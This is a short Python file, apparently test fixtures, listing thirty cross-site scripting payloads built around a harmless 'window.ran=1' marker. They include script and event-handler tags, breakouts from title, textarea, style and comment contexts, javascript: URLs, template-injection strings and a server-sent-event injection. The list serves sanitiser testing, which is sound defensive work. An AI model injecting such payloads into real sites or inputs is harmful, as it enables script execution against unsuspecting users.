"""Thirty names that run where they are taken for markup, script, style or an address."""

from __future__ import annotations

RUN = "window.ran=1"
NAMES = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f"</td><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><img src=x onerror={RUN}>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"javascript:{RUN}",
    f"<a href=javascript:{RUN}>x</a>",
    f"<iframe srcdoc='<script>parent.{RUN.partition('.')[2]}</script>'></iframe>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<math><mtext><img src=x onerror={RUN}>",
    f"<template><script>{RUN}</script></template>",
    f"${{{RUN}}}",
    f"{{{{{RUN}}}}}",
    f"{{% {RUN} %}}",
    f"`;{RUN};`",
    f"';{RUN};'",
    f'\\";{RUN};//',
    f"\u2028{RUN}\u2029",
    f"data: {RUN}\n\nevent: state\ndata: {{}}\n\n",
]
